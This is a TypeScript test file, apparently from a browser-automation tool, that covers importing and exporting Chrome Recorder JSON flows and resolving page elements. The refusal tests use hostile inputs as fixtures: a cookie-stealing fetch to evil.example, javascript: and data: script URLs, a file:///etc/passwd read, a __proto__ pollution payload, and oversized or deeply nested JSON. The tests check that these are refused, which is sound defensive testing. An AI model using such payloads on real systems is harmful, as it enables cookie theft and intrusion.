import { parse as parseWithPuppeteer } from '@puppeteer/replay';
import { describe, expect, it } from 'vitest';
import {
  exportRecorderJson,
  importRecorderJson,
  jsonDepth,
  MANUAL_STEP_MARKER,
  MAX_RECORDER_JSON_LENGTH,
} from '@/lib/interop/recorder-json';
import { describeElement, resolveTarget } from '@/lib/locators';
import type { Step, Task } from '@/lib/task/schema';

const flow = (steps: unknown[], extra: Record<string, unknown> = {}) =>
  JSON.stringify({ title: 'Sign in', ...extra, steps });

function imported(text: string) {
  const result = importRecorderJson(text);
  if (!result.ok) throw new Error(result.error.message);
  return result.value;
}

function refusal(text: string) {
  const result = importRecorderJson(text);
  if (result.ok) throw new Error('expected a refusal');
  return result.error;
}

/** A recording as Chrome DevTools Recorder writes it (shapes from @puppeteer/replay's test fixtures). */
const CHROME_RECORDING = flow([
  {
    type: 'setViewport',
    width: 1200,
    height: 800,
    deviceScaleFactor: 1,
    isMobile: false,
    hasTouch: false,
    isLandscape: false,
  },
  {
    type: 'navigate',
    url: 'https://shop.example/login',
    assertedEvents: [{ type: 'navigation', url: 'https://shop.example/login', title: 'Sign in' }],
  },
  {
    type: 'click',
    target: 'main',
    selectors: [['aria/Email[role="textbox"]'], ['#email'], ['xpath///*[@id="email"]'], ['pierce/#email']],
    offsetX: 40,
    offsetY: 9,
  },
  {
    type: 'change',
    value: 'ada@example.test',
    selectors: [['aria/Email[role="textbox"]'], ['#email'], ['xpath///*[@id="email"]'], ['pierce/#email']],
    target: 'main',
  },
  {
    type: 'change',
    value: 'hunter2',
    selectors: [['aria/Password'], ['#password'], ['xpath///*[@id="password"]']],
  },
  { type: 'keyDown', key: 'Enter', target: 'main' },
  { type: 'keyUp', key: 'Enter', target: 'main' },
  {
    type: 'click',
    selectors: [['aria/Sign in[role="button"]'], ['form > button.primary'], ['text/Sign in']],
    offsetX: 10,
    offsetY: 5,
    assertedEvents: [{ type: 'navigation', url: 'https://shop.example/', title: '' }],
  },
]);

describe('importRecorderJson', () => {
  it('turns a Chrome Recorder recording into a task with variables and origins', () => {
    const { task, notes } = imported(CHROME_RECORDING);
    expect(task.title).toBe('Sign in');
    expect(task.origins).toEqual(['https://shop.example']);
    expect(task.steps.map((step) => step.kind)).toEqual(['navigate', 'click', 'fill', 'fill', 'press', 'click']);
    expect(task.variables).toEqual([
      { name: 'email', secret: false, defaultValue: 'ada@example.test', label: 'Email' },
      { name: 'password', secret: true, defaultValue: 'hunter2', label: 'Password' },
    ]);
    expect(task.steps[2]).toMatchObject({ kind: 'fill', value: '{{email}}' });
    expect(task.steps[4]).toMatchObject({ kind: 'press', key: 'Enter', modifiers: [] });
    expect(notes).toEqual([]);
  });

  it('reads role and name from aria selectors, ids from CSS and tags from CSS or XPath', () => {
    const { task } = imported(CHROME_RECORDING);
    const click = task.steps[1] as Extract<Step, { kind: 'click' }>;
    expect(click.target.fingerprint).toMatchObject({ tag: '', role: 'textbox', name: 'Email', id: 'email' });
    expect(click.target.locators).toEqual(
      expect.arrayContaining([
        { kind: 'role', role: 'textbox', name: 'Email' },
        { kind: 'id', value: 'email' },
        { kind: 'css', selector: '#email' },
        { kind: 'xpath', path: '//*[@id="email"]' },
      ]),
    );
    const signIn = task.steps[5] as Extract<Step, { kind: 'click' }>;
    expect(signIn.target.fingerprint).toMatchObject({
      tag: 'button',
      role: 'button',
      name: 'Sign in',
      text: 'Sign in',
    });
    expect(signIn.target.locators).toContainEqual({ kind: 'text', tag: 'button', text: 'Sign in' });
    // A change step without any tag in its selectors may type into any field: no kind is assumed.
    const password = task.steps[3] as Extract<Step, { kind: 'fill' }>;
    expect(password.target.fingerprint).toMatchObject({ tag: '', role: '', name: 'Password', id: 'password' });
  });

  it('follows shadow-DOM selector chains into shadow hosts', () => {
    const { task } = imported(
      flow([
        {
          type: 'click',
          selectors: [['quick-note', 'button.add'], ['quick-note', 'aria/Add[role="button"]'], ['pierce/button.add']],
          offsetX: 1,
          offsetY: 1,
        },
      ]),
    );
    const step = task.steps[0] as Extract<Step, { kind: 'click' }>;
    expect(step.target.shadowHosts).toHaveLength(1);
    expect(step.target.shadowHosts[0]?.locators).toEqual([{ kind: 'css', selector: 'quick-note' }]);
    expect(step.target.shadowHosts[0]?.fingerprint.tag).toBe('quick-note');
    expect(step.target.fingerprint).toMatchObject({ tag: 'button', role: 'button', name: 'Add' });
  });

  it('keeps frame index paths as frame descriptors found by position', () => {
    const { task, notes } = imported(
      flow([{ type: 'click', frame: [1], selectors: ['#save'], offsetX: 1, offsetY: 1 }]),
    );
    expect(task.steps[0]?.frame).toHaveLength(1);
    expect(task.steps[0]?.frame[0]?.locators).toEqual([{ kind: 'xpath', path: '(//iframe|//frame)[2]' }]);
    expect(notes[0]).toMatch(/inside a frame/);
  });

  it('maps modifier key-downs onto the next press and drops lone key-ups and viewport steps', () => {
    const { task } = imported(
      flow([
        { type: 'keyUp', key: 'a' },
        { type: 'keyDown', key: 'Control' },
        { type: 'keyDown', key: 'a' },
        { type: 'keyUp', key: 'a' },
        { type: 'keyUp', key: 'Control' },
        { type: 'keyDown', key: 'Tab' },
        { type: 'keyUp', key: 'Tab' },
      ]),
    );
    expect(task.steps).toEqual([
      expect.objectContaining({ kind: 'press', key: 'a', modifiers: ['Control'] }),
      expect.objectContaining({ kind: 'press', key: 'Tab', modifiers: [] }),
    ]);
  });

  it('keeps waitForExpression and customStep as steps that stop the run instead of running code', () => {
    const { task, notes } = imported(
      flow([
        { type: 'navigate', url: 'https://shop.example/' },
        { type: 'waitForExpression', expression: 'fetch("https://evil.example/?" + document.cookie)' },
        { type: 'customStep', name: 'lighthouse', parameters: { a: [1, 2] } },
      ]),
    );
    expect(task.steps.slice(1)).toEqual([
      expect.objectContaining({ kind: 'waitForUrl', alwaysAsk: true }),
      expect.objectContaining({ kind: 'waitForUrl', alwaysAsk: true }),
    ]);
    for (const step of task.steps.slice(1)) {
      const url = (step as Extract<Step, { kind: 'waitForUrl' }>).url;
      expect(url.startsWith(MANUAL_STEP_MARKER)).toBe(true);
      // The marker contains a space, so no real address can ever include it.
      expect(url).toContain(' ');
    }
    expect(notes).toHaveLength(2);
  });

  it('turns a change on a list into a select step', () => {
    const { task } = imported(
      flow([{ type: 'change', value: 'acme', selectors: [['aria/Company[role="combobox"]'], ['#company']] }]),
    );
    expect(task.steps[0]).toMatchObject({ kind: 'select', value: 'acme' });
    expect(task.variables).toEqual([]);
  });

  it('collects origins from navigate steps and from other pages the flow targets', () => {
    const { task } = imported(
      flow([
        { type: 'navigate', url: 'https://a.example/x' },
        { type: 'click', target: 'https://b.example:8443/help', selectors: ['#q'], offsetX: 1, offsetY: 1 },
      ]),
    );
    expect(task.origins).toEqual(['https://a.example', 'https://b.example:8443']);
    expect(task.steps[1]?.tab).toBe(1);
  });
});

describe('importRecorderJson refuses hostile or foreign files with a clear message', () => {
  it.each([
    ['javascript:alert(1)', /javascript: address/],
    ['data:text/html,<script>alert(1)</script>', /data: address/],
    ['file:///etc/passwd', /file: address/],
    ['chrome://settings', /chrome: address/],
  ])('refuses navigating to %s', (url, message) => {
    const error = refusal(flow([{ type: 'navigate', url }]));
    expect(error.code).toBe('unsafe-url');
    expect(error.message).toMatch(message);
  });

  it('refuses a step whose page target is not a web address', () => {
    const error = refusal(flow([{ type: 'keyDown', key: 'a', target: 'javascript:alert(1)' }]));
    expect(error.code).toBe('unsafe-url');
  });

  it('refuses a file over 5 MB before parsing it', () => {
    const big = flow([{ type: 'navigate', url: 'https://a.example/' }], {
      padding: 'x'.repeat(MAX_RECORDER_JSON_LENGTH),
    });
    expect(refusal(big)).toMatchObject({ code: 'too-large' });
    // 50 MB is refused just as fast: the length check needs no parse.
    const started = performance.now();
    expect(refusal('['.repeat(50 * 1024 * 1024)).code).toBe('too-large');
    expect(performance.now() - started).toBeLessThan(1000);
  });

  it('refuses deep nesting before JSON.parse', () => {
    expect(refusal(`${'['.repeat(100_000)}${']'.repeat(100_000)}`).code).toBe('too-deep');
    expect(
      refusal(flow([{ type: 'customStep', name: 'x', parameters: JSON.parse(`${'['.repeat(40)}${']'.repeat(40)}`) }]))
        .code,
    ).toBe('too-deep');
  });

  it('counts depth outside strings only', () => {
    expect(jsonDepth('{"a":"[[[[{{{{"}')).toBe(1);
    expect(jsonDepth('{"a":"\\"[[["}')).toBe(1);
    expect(jsonDepth('[[1],[[2]]]')).toBe(3);
  });

  it('refuses text that is not JSON', () => {
    expect(refusal('title: x').code).toBe('not-json');
  });

  it('refuses JSON that is not a recording', () => {
    expect(refusal('[]')).toMatchObject({ code: 'invalid-flow' });
    expect(refusal('{"title": 3, "steps": []}').message).toMatch(/not a Chrome Recorder recording at title/);
    expect(refusal('{"title": "x"}').message).toMatch(/steps/);
  });

  it('refuses unknown step types, naming the step', () => {
    const error = refusal(
      flow([
        { type: 'navigate', url: 'https://a.example/' },
        { type: 'runScript', code: 'x' },
      ]),
    );
    expect(error).toMatchObject({ code: 'invalid-flow' });
    expect(error.message).toBe(
      'Step 2 has “runScript”, which is not a Chrome Recorder step type. Nothing was imported.',
    );
  });

  it('refuses steps with the wrong shape, naming the field', () => {
    expect(refusal(flow([{ type: 'click', selectors: [], offsetX: 1, offsetY: 1 }])).message).toMatch(
      /Step 1 \(click\) is invalid at selectors/,
    );
    expect(refusal(flow([{ type: 'click', selectors: ['#a'] }])).message).toMatch(/offsetX/);
    expect(refusal(flow([{ type: 'click', selectors: [[1]], offsetX: 1, offsetY: 1 }])).code).toBe('invalid-flow');
  });

  it('ignores __proto__ and unknown keys rather than copying them', () => {
    const { task } = imported(
      '{"title":"t","__proto__":{"polluted":true},"steps":[{"type":"navigate","url":"https://a.example/","__proto__":{"x":1},"extra":1}]}',
    );
    expect(JSON.stringify(task)).not.toMatch(/polluted|extra/);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });
});

describe('imported targets resolve by their locators and are refused, never guessed, otherwise', () => {
  const page = (html: string) => {
    document.body.innerHTML = html;
    return document;
  };
  const targetOf = (selectors: unknown[], type = 'click') => {
    const step = type === 'click' ? { type, selectors, offsetX: 1, offsetY: 1 } : { type, selectors, value: 'x' };
    const { task } = imported(flow([step]));
    return (task.steps[0] as Extract<Step, { kind: 'click' }>).target;
  };
  /** Selectors as Chrome DevTools Recorder writes them for an element with an id and a name. */
  const chromeSelectors = (name: string, id: string) => [
    [`aria/${name}`],
    [`#${id}`],
    [`xpath///*[@id="${id}"]`],
    [`pierce/#${id}`],
    [`text/${name}`],
  ];
  const statusOf = (result: ReturnType<typeof resolveTarget>) =>
    result.status === 'found'
      ? { status: 'found', id: result.element.id }
      : result.status === 'ambiguous'
        ? { status: 'ambiguous', ids: result.candidates.map((element) => element.id || element.textContent) }
        : { status: result.status };

  it('finds a button by its aria selector among look-alikes', () => {
    const doc = page('<form><button>Cancel</button><button class="primary">Sign in</button></form>');
    const result = resolveTarget(doc, targetOf([['aria/Sign in[role="button"]'], ['form > button.primary']]));
    expect(result.status).toBe('found');
    if (result.status === 'found') expect(result.element.textContent).toBe('Sign in');
  });

  it('reads the role of an aria selector written as a plain string', () => {
    const target = targetOf(['aria/Save[role="button"]', '#save']);
    expect(target.fingerprint).toMatchObject({ role: 'button', name: 'Save', id: 'save' });
    expect(target.locators).toContainEqual({ kind: 'role', role: 'button', name: 'Save' });
    // Puppeteer also accepts the name as an attribute, in either order.
    expect(targetOf(['aria/[role="link"][name="Help"]']).fingerprint).toMatchObject({ role: 'link', name: 'Help' });
  });

  it('acts when an id and the aria name of a plain Chrome recording agree on one element', () => {
    const doc = page('<h2>Save</h2><button id="cancel">Cancel</button><button id="save">Save</button>');
    const target = targetOf(chromeSelectors('Save', 'save'));
    expect(target.fingerprint).toMatchObject({ tag: '', role: '' });
    const result = resolveTarget(doc, target);
    expect(statusOf(result)).toEqual({ status: 'found', id: 'save' });
    if (result.status === 'found') expect(result.via).toBe('id');
  });

  it('acts when an aria name and an absolute XPath agree', () => {
    const doc = page('<button>Cancel</button><button>Save</button>');
    const result = resolveTarget(doc, targetOf([['aria/Save'], ['xpath//html/body/button[2]']]));
    expect(result.status).toBe('found');
    if (result.status === 'found') expect(result.element.textContent).toBe('Save');
  });

  it('types into a textarea a change step names only by its label and id', () => {
    const doc = page('<label for="body">Message</label><textarea id="body"></textarea><input id="to">');
    const { task } = imported(
      flow([{ type: 'change', value: 'Hello', selectors: [['aria/Message'], ['#body'], ['xpath///*[@id="body"]']] }]),
    );
    const step = task.steps[0] as Extract<Step, { kind: 'fill' }>;
    expect(step.kind).toBe('fill');
    expect(statusOf(resolveTarget(doc, step.target))).toEqual({ status: 'found', id: 'body' });
  });

  it('finds the control around the text a text selector names', () => {
    const doc = page('<div class="bar"><button id="save"><span>Save</span></button><button>Close</button></div>');
    expect(statusOf(resolveTarget(doc, targetOf([['#save'], ['text/Save']])))).toEqual({ status: 'found', id: 'save' });
  });

  it('asks, rather than acts, when only an id points at an element of unknown kind', () => {
    const doc = page('<div id="menu">Menu</div>');
    expect(statusOf(resolveTarget(doc, targetOf([['#menu'], ['pierce/#menu'], ['xpath///*[@id="menu"]']])))).toEqual({
      status: 'ambiguous',
      ids: ['menu'],
    });
    page('<input id="other"><input id="email">');
    expect(statusOf(resolveTarget(document, targetOf([['#email']], 'change')))).toEqual({
      status: 'ambiguous',
      ids: ['email'],
    });
  });

  it('refuses to act when only a text selector matches several look-alikes', () => {
    const doc = page('<ul><li><a href="/1">Edit</a></li><li><a href="/2">Edit</a></li></ul>');
    const result = resolveTarget(doc, targetOf([['text/Edit']]));
    expect(result.status).toBe('ambiguous');
    if (result.status === 'ambiguous') expect(result.candidates.map((element) => element.tagName)).toEqual(['A', 'A']);
  });

  it('asks when the selectors point at different elements', () => {
    const doc = page('<button id="save">Save draft</button><button id="publish">Save</button>');
    expect(statusOf(resolveTarget(doc, targetOf(chromeSelectors('Save', 'save'))))).toEqual({
      status: 'ambiguous',
      ids: ['save', 'publish'],
    });
  });

  it('asks when the element the selectors agree on carries another name now', () => {
    const doc = page('<button id="save">Keep my changes</button>');
    expect(statusOf(resolveTarget(doc, targetOf(chromeSelectors('Save', 'save'))))).toEqual({
      status: 'ambiguous',
      ids: ['save'],
    });
  });

  it('refuses, without asking, when that name now starts with a verb of another meaning', () => {
    const doc = page('<button id="save">Delete everything</button>');
    expect(resolveTarget(doc, targetOf(chromeSelectors('Save', 'save'))).status).toBe('not-found');
  });

  it('refuses when the id is gone instead of taking the only field left', () => {
    const doc = page('<input id="search">');
    expect(resolveTarget(doc, targetOf([['#email']], 'change')).status).toBe('not-found');
    expect(resolveTarget(doc, targetOf(chromeSelectors('Email', 'email'), 'change')).status).toBe('not-found');
  });

  it('places one-part aria and pierce selectors inside the shadow root a chain leads to', () => {
    const doc = page('<quick-note></quick-note><button class="add">Add</button>');
    const host = doc.querySelector('quick-note') as Element;
    host.attachShadow({ mode: 'open' }).innerHTML = '<input aria-label="Quick note"><button class="add">Add</button>';
    const target = targetOf([['aria/Add'], ['quick-note', 'button.add'], ['pierce/button.add'], ['button.other']]);
    expect(target.shadowHosts).toHaveLength(1);
    expect(target.locators).toEqual([{ kind: 'css', selector: 'button.add' }]);
    expect(target.fingerprint).toMatchObject({ tag: 'button', name: 'Add' });
    const result = resolveTarget(doc, target);
    expect(result.status).toBe('found');
    if (result.status === 'found') expect(result.element.getRootNode()).toBe(host.shadowRoot);
  });
});

// ---- export ----

const target = (tag: string, role: string, name: string, locators: unknown[]) => ({
  version: 1 as const,
  locators,
  fingerprint: {
    tag,
    role,
    name,
    attrs: {},
    classes: [],
    index: 0,
    count: 1,
    rect: { x: 0, y: 0, width: 80, height: 20 },
  },
  shadowHosts: [],
});
const base = { optional: false, alwaysAsk: false, frame: [], tab: 0 };

const TASK: Task = {
  version: 1,
  title: 'Sign in',
  origins: ['https://shop.example'],
  variables: [
    { name: 'email', secret: false, defaultValue: 'ada@example.test' },
    { name: 'password', secret: true, defaultValue: 'correct horse battery staple' },
  ],
  steps: [
    { ...base, id: 's1', kind: 'navigate', url: 'https://shop.example/login' },
    {
      ...base,
      id: 's2',
      kind: 'fill',
      value: '{{email}}',
      target: target('input', 'textbox', 'Email', [
        { kind: 'id', value: 'email' },
        { kind: 'role', role: 'textbox', name: 'Email' },
        { kind: 'label', text: 'Email' },
        { kind: 'css', selector: '#email' },
        { kind: 'xpath', path: '//*[@id="email"]' },
      ]),
    },
    {
      ...base,
      id: 's3',
      kind: 'fill',
      value: '{{password}}',
      target: target('input', 'textbox', 'Password', [{ kind: 'name', tag: 'input', value: 'password' }]),
    },
    { ...base, id: 's4', kind: 'press', key: 'a', modifiers: ['Control'] },
    {
      ...base,
      id: 's5',
      kind: 'click',
      target: target('button', 'button', 'Sign in', [
        { kind: 'role', role: 'button', name: 'Sign in' },
        { kind: 'text', tag: 'button', text: 'Sign in' },
        { kind: 'css', selector: 'form > button' },
      ]),
    },
  ] as Step[],
};

describe('exportRecorderJson', () => {
  it('writes a flow @puppeteer/replay parses unchanged', () => {
    const result = exportRecorderJson(TASK);
    if (!result.ok) throw new Error(result.error.message);
    const parsed = parseWithPuppeteer(JSON.parse(result.value.text));
    expect(parsed.steps.map((step) => step.type)).toEqual([
      'navigate',
      'change',
      'change',
      'keyDown',
      'keyDown',
      'keyUp',
      'keyUp',
      'click',
    ]);
    expect(parsed.steps[1]).toMatchObject({
      value: 'ada@example.test',
      selectors: ['input#email', 'aria/Email[role="textbox"]', '#email', 'xpath///*[@id="email"]'],
    });
    expect(parsed.steps[7]).toMatchObject({ selectors: ['aria/Sign in[role="button"]', 'form > button'], offsetX: 40 });
    expect(result.value.fileName).toBe('sign-in.json');
  });

  it('never writes a secret value: the field is left empty and the title says so', () => {
    const result = exportRecorderJson(TASK);
    if (!result.ok) throw new Error(result.error.message);
    expect(result.value.text).not.toContain('correct horse battery staple');
    expect(JSON.parse(result.value.text).steps[2].value).toBe('');
    expect(JSON.parse(result.value.text).title).toMatch(/fill in before running: password/);
    expect(result.value.emptySecrets).toEqual(['password']);
  });

  it('writes shadow-DOM targets as selector chains', () => {
    const inShadow = {
      ...target('button', 'button', 'Add', [
        { kind: 'role', role: 'button', name: 'Add' },
        { kind: 'xpath', path: '//button' },
      ]),
      shadowHosts: [
        {
          locators: [{ kind: 'css', selector: 'quick-note' }],
          fingerprint: target('quick-note', '', '', []).fingerprint,
        },
      ],
    };
    const task: Task = { ...TASK, steps: [{ ...base, id: 'x', kind: 'click', target: inShadow } as Step] };
    const result = exportRecorderJson(task);
    if (!result.ok) throw new Error(result.error.message);
    // XPath does not reach into shadow roots, so it is left out inside one.
    expect(JSON.parse(result.value.text).steps[0].selectors).toEqual([['quick-note', 'aria/Add[role="button"]']]);
  });

  it('refuses what Chrome Recorder cannot express rather than writing something else', () => {
    const upload = {
      ...TASK,
      steps: [{ ...base, id: 'u', kind: 'upload', target: target('input', '', '', []) } as Step],
    };
    expect(exportRecorderJson(upload)).toMatchObject({ ok: false, error: { code: 'not-exportable' } });
    const inTab = { ...TASK, steps: [{ ...(TASK.steps[0] as Step), tab: 1 }] };
    expect(exportRecorderJson(inTab)).toMatchObject({ ok: false, error: { code: 'not-exportable' } });
  });

  it('round-trips: export then import gives the same steps, targets and non-secret values', () => {
    const exported = exportRecorderJson(TASK);
    if (!exported.ok) throw new Error(exported.error.message);
    const { task } = imported(exported.value.text);
    expect(task.steps.map((step) => step.kind)).toEqual(['navigate', 'fill', 'fill', 'press', 'click']);
    expect(task.steps[3]).toMatchObject({ key: 'a', modifiers: ['Control'] });
    expect(task.variables.map(({ name, secret, defaultValue }) => ({ name, secret, defaultValue }))).toEqual([
      { name: 'email', secret: false, defaultValue: 'ada@example.test' },
      { name: 'password', secret: true, defaultValue: '' },
    ]);
    const fill = task.steps[1] as Extract<Step, { kind: 'fill' }>;
    expect(fill.target.fingerprint).toMatchObject({ tag: 'input', role: 'textbox', name: 'Email', id: 'email' });
    const click = task.steps[4] as Extract<Step, { kind: 'click' }>;
    expect(click.target.fingerprint).toMatchObject({ tag: 'button', role: 'button', name: 'Sign in' });
  });

  it('keeps the aria name of an imported target whose kind no selector states when exporting it again', () => {
    const { task } = imported(
      flow([{ type: 'click', selectors: [['aria/Save'], ['#save'], ['text/Save']], offsetX: 1, offsetY: 1 }]),
    );
    const exported = exportRecorderJson(task);
    if (!exported.ok) throw new Error(exported.error.message);
    expect(JSON.parse(exported.value.text).steps[0].selectors).toEqual(['#save', 'aria/Save']);
  });

  it('round-trips a recorded element through describeElement, export, import and resolveTarget', () => {
    document.body.innerHTML =
      '<main><ul><li>Dana <a href="/c/1/edit">Edit</a></li><li>Fox <a href="/c/2/edit" id="edit-fox">Edit Fox</a></li></ul></main>';
    const link = document.getElementById('edit-fox') as Element;
    const recorded: Task = { ...TASK, steps: [{ ...base, id: 'c', kind: 'click', target: describeElement(link) }] };
    const exported = exportRecorderJson(recorded);
    if (!exported.ok) throw new Error(exported.error.message);
    const { task } = imported(exported.value.text);
    const back = resolveTarget(document, (task.steps[0] as Extract<Step, { kind: 'click' }>).target);
    expect(back).toMatchObject({ status: 'found', element: link });
  });
});
